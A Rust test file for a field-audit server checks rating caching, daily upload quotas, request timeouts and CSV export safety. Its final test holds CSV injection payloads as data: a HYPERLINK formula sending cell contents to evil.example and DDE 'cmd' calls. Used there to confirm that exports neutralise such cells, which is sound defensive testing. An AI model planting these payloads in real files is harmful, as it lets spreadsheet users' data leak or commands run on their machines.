//! Limits (issue 11): the rating is read beside the writer and cached per quarter until a
//! decision, an import or publishing changes it; requests time out and queue behind a
//! cap; auditors have daily quotas of visits and photo bytes; CSV exports cannot carry
//! formulas.

use std::time::{Duration as StdDuration, Instant};

use super::*;
use zakupka_core::wire::Rating;
use zakupka_core::wire::Refusal;
use zakupka_server::{Limits, Settings, app_with};

/// The seeds and users on a database in a fresh temporary folder (with reader connections,
/// as in production), served with `limits`.
fn on_disk(limits: Limits) -> (Server, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let mut s = Server::with(Db::open(&dir.path().join("z.db")).unwrap());
    let settings = Settings {
        limits,
        ..Settings::default()
    };
    s.app = app_with(s.db.clone(), None, settings);
    (s, dir)
}

fn rating_uri(q: Quarter) -> String {
    format!("/api/v1/rating?quarter={q}")
}

#[tokio::test]
async fn the_rating_answers_while_the_writer_is_busy() {
    let (s, _dir) = on_disk(Limits::default());
    let token = s.login("auditor1").await;
    // A long commit holds the one writer connection.
    let db = s.db.clone();
    let held = tokio::spawn(async move {
        db.call(|_| {
            std::thread::sleep(StdDuration::from_secs(3));
            Ok(())
        })
        .await
    });
    tokio::time::sleep(StdDuration::from_millis(100)).await;
    let started = Instant::now();
    for q in ["2025-Q3", "2025-Q4", "2026-Q1"] {
        s.get(&rating_uri(q.parse().unwrap()), Some(&token))
            .await
            .expect(StatusCode::OK);
        s.get(
            &format!("/api/v1/rating/export?quarter={q}&format=csv"),
            Some(&token),
        )
        .await
        .expect(StatusCode::OK);
    }
    s.get("/api/v1/rating/quarters", Some(&token))
        .await
        .expect(StatusCode::OK);
    // Before: every one of them queued behind the commit (3 s).
    assert!(
        started.elapsed() < StdDuration::from_secs(2),
        "the rating waited for the writer: {:?}",
        started.elapsed()
    );
    held.await.unwrap().unwrap();
}

#[tokio::test]
async fn pushes_complete_while_rating_requests_loop() {
    let (s, _dir) = on_disk(Limits::default());
    let s = std::sync::Arc::new(s);
    let token = s.login("auditor1").await;
    let reader = s.login("supervisor").await;
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut loops = Vec::new();
    for n in 0..8 {
        let (s, reader, stop) = (s.clone(), reader.clone(), stop.clone());
        loops.push(tokio::spawn(async move {
            let mut answered = 0;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let q = Quarter {
                    year: 2020 + n,
                    q: (answered % 4 + 1) as u8,
                };
                s.get(&rating_uri(q), Some(&reader))
                    .await
                    .expect(StatusCode::OK);
                answered += 1;
            }
            answered
        }));
    }
    let mut slowest = StdDuration::ZERO;
    for _ in 0..10 {
        let started = Instant::now();
        s.push_ok(&token, &s.visit("auditor1")).await;
        slowest = slowest.max(started.elapsed());
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let mut answered = 0;
    for l in loops {
        answered += l.await.unwrap();
    }
    assert!(answered > 8, "the rating loops ran ({answered} answers)");
    assert!(
        slowest < StdDuration::from_secs(2),
        "a push took {slowest:?}"
    );
    assert_eq!(s.visits(&reader).await.len(), 10);
}

#[tokio::test]
async fn a_decision_an_import_or_publishing_changes_the_next_rating_and_nothing_else_does() {
    let (s, _dir) = on_disk(Limits::default());
    let (a1, sup) = (s.login("auditor1").await, s.login("supervisor").await);
    let admin = s.login("admin").await;
    let visit = s.visit("auditor1");
    s.push_ok(&a1, &visit).await;
    let q = Quarter::of(visit.finished_at.unwrap());
    let rating = || async {
        s.get(&rating_uri(q), Some(&sup))
            .await
            .expect(StatusCode::OK)
            .json::<Rating>()
    };
    let approved = |r: &Rating| -> u32 {
        r.tables
            .iter()
            .flat_map(|t| t.not_rated.iter())
            .map(|(_, why)| match *why {
                zakupka_core::rating::NotRated::TooFewVisits { approved, .. } => approved,
                _ => 0,
            })
            .sum()
    };
    let before = rating().await;
    assert_eq!(approved(&before), 0);
    assert_eq!(rating().await, before);

    // A decision: the next answer counts the approved visit.
    let approve = serde_json::json!({ "decision": "approve", "revision": 1 });
    s.post_json(
        &format!("/api/v1/visits/{}/review", visit.id),
        Some(&sup),
        &approve,
    )
    .await
    .expect(StatusCode::OK);
    let after = rating().await;
    assert_eq!(approved(&after), 1, "the decision is in the next rating");

    // A change behind the server's back that is none of these (the visit moved to another
    // quarter by hand) is not seen: the answer comes from the cache.
    s.db.blocking(|c| {
        Ok(c.execute(
            "UPDATE visits SET finished_at = '2001-01-01T00:00:00.000000Z'",
            [],
        )?)
    })
    .unwrap();
    assert_eq!(rating().await, after, "served from the cache");

    // A KPI import, by the command line's code on the same database: recomputed.
    super::scope::import_kpis(&s, q);
    let imported = rating().await;
    assert_eq!(approved(&imported), 0, "recomputed after the import");

    // Publishing an ended quarter: its next answer is the published one.
    let past: Quarter = "2025-Q4".parse().unwrap();
    assert!(rating_published(&s, &sup, past).await.is_none());
    super::scope::import_kpis(&s, past);
    s.call(
        Method::POST,
        &format!("/api/v1/rating/{past}/publish"),
        Some(&admin),
        None,
    )
    .await
    .expect(StatusCode::OK);
    assert!(rating_published(&s, &sup, past).await.is_some());
}

async fn rating_published(s: &Server, token: &str, q: Quarter) -> Option<chrono::DateTime<Utc>> {
    s.get(&rating_uri(q), Some(token))
        .await
        .expect(StatusCode::OK)
        .json::<Rating>()
        .published_at
}

#[tokio::test]
async fn an_auditor_over_the_days_quota_of_visits_or_photo_bytes_is_told_when_to_retry() {
    let (s, _dir) = on_disk(Limits {
        visits_per_day: 2,
        photo_bytes_per_day: PNG.len() as u64 + 10,
        ..Limits::default()
    });
    let (a1, a2) = (s.login("auditor1").await, s.login("auditor2").await);
    let first = s.with_photo(s.visit("auditor1"), PNG);
    s.push_ok(&a1, &first).await;
    s.push_ok(&a1, &s.visit("auditor1")).await;
    let over = s.push(&a1, vec![s.visit("auditor1")]).await;
    let e = over.error(StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(e.code, Refusal::QuotaExceeded);
    let retry: u64 = over.headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=86_400).contains(&retry), "Retry-After {retry}");
    assert_eq!(
        s.count("visits"),
        2,
        "nothing of the refused push is stored"
    );
    // A resend of what is stored is still answered; another auditor has their own quota.
    let again: PushResponse = s
        .push(&a1, vec![first.clone()])
        .await
        .expect(StatusCode::OK)
        .json();
    assert_eq!(again.results[0].status, PushStatus::Duplicate);
    s.push_ok(&a2, &s.visit("auditor2")).await;

    // Photo bytes: the first photo fits, a second one does not.
    s.put_photo(Some(&a1), &sha256(PNG), PNG)
        .await
        .expect(StatusCode::CREATED);
    let mut other = PNG.to_vec();
    other.extend_from_slice(&[0; 16]);
    let two = s.with_photo(s.visit("auditor2"), &other);
    s.push_ok(&a2, &two).await;
    let a2_photo = s.put_photo(Some(&a2), &sha256(&other), &other).await;
    let e = a2_photo.error(StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(e.code, Refusal::QuotaExceeded);
    assert!(a2_photo.headers.contains_key(header::RETRY_AFTER));
    assert_eq!(s.count("photos"), 1);
}

#[tokio::test]
async fn a_request_that_stalls_is_cut_off_and_requests_over_the_cap_wait_their_turn() {
    let (s, _dir) = on_disk(Limits {
        request_timeout: StdDuration::from_millis(600),
        max_concurrent_requests: 1,
        ..Limits::default()
    });
    let token = s.login("auditor1").await;
    // A client that starts a photo upload and never sends the bytes.
    let stalled = Server::request(
        Method::PUT,
        &format!("/api/v1/photos/{}", sha256(PNG)),
        Some(&token),
    )
    .header(header::CONTENT_TYPE, "application/octet-stream")
    .body(Body::from_stream(futures_util::stream::pending::<
        Result<axum::body::Bytes, std::io::Error>,
    >()))
    .unwrap();
    let started = Instant::now();
    let (cut, health) = tokio::join!(
        tokio::time::timeout(StdDuration::from_secs(10), s.send(stalled)),
        async {
            tokio::time::sleep(StdDuration::from_millis(100)).await;
            let asked = Instant::now();
            let r = s.get("/healthz", None).await;
            (r.status, asked.elapsed())
        }
    );
    let cut = cut.expect("the stalled request was never cut off");
    let e = cut.error(StatusCode::REQUEST_TIMEOUT);
    assert_eq!(e.code, Refusal::Unavailable);
    assert!(started.elapsed() < StdDuration::from_secs(5));
    // The one slot was the stalled request's: the health check waited for it to go.
    assert_eq!(health.0, StatusCode::OK);
    assert!(
        health.1 >= StdDuration::from_millis(300),
        "answered beside the stalled request in {:?}",
        health.1
    );
}

#[tokio::test]
async fn csv_exports_neutralise_cells_a_spreadsheet_would_run() {
    let s = Server::new();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/\"&A1,\"Балашиха\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut directory = s.directory.clone();
    for (branch, name) in directory.branches.iter_mut().zip(hostile) {
        branch.name.ru = name.to_owned();
    }
    s.db.blocking(|c| zakupka_server::demo::publish(c, &s.template, &directory))
        .unwrap();
    let token = s.login("auditor1").await;
    let q = Quarter::of(Utc::now());
    let csv = s
        .get(
            &format!("/api/v1/rating/export?quarter={q}&format=csv"),
            Some(&token),
        )
        .await
        .expect(StatusCode::OK);
    let mut reader = csv::ReaderBuilder::new().from_reader(&csv.body[..]);
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_owned()).collect();
    for name in hostile {
        assert!(
            names.contains(&format!("'{name}")),
            "{name:?} is not neutralised in {names:?}"
        );
    }
    for name in &names {
        assert!(
            !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name:?}"
        );
    }
}
